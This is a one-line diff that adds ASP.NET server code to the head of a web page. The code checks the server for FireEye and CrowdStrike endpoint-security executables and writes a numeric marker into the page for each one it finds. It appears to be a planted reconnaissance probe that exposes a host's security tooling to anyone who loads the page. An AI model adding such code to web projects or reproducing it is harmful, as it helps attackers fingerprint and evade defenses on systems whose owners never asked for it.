@@ -1,0 +1,1 @@
+<%if(System.IO.File.Exists("c:\\program files (x86)\\fireeye\\xagt.exe")){Response.Write( "3");}%><%if(System.IO.File.Exists("c:\\program files\\crowdstrike\\csfalconservice.exe")){Response.Write( "4");}%></head>
